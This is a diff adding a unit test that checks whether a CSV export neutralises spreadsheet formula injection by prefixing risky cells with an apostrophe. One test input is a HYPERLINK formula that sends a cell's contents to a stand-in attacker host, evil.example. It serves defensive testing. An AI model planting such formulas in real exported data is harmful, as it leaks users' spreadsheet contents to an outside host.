@@ -49,6 +49,22 @@ describe('list downloads (CSV, Excel, PDF from one column list)', () => {
     expect(csv).toContain('5,Beyond a double,1234567890123456.78,USD,');
   });
 
+  it('CSV: text a spreadsheet would run as a formula starts with an apostrophe; amounts and numbers do not', async () => {
+    const rows = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', 'a=b', "'quoted"].map(
+      (name, i): Row => ({ id: -i, name, amountMinor: -5n, currency: 'USD', at: null }),
+    );
+    const csv = (await render('csv', rows)).toString('utf8').trim().split('\n').slice(1);
+    expect(csv).toEqual([
+      `0,"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",-0.05,USD,`,
+      "-1,'+1+1,-0.05,USD,",
+      "-2,'-2+3,-0.05,USD,",
+      "-3,'@SUM(A1),-0.05,USD,",
+      "-4,'\t=1,-0.05,USD,",
+      '-5,a=b,-0.05,USD,',
+      "-6,'quoted,-0.05,USD,",
+    ]);
+  });
+
   it('Excel: numbers stay numbers with the currency decimals, dates are dates, an About sheet says what it holds', async () => {
     const { rows, workbook } = await readWorkbook(await render('xlsx', ROWS));
     expect(workbook.worksheets.map((s) => s.name)).toEqual(['Things', 'About']);
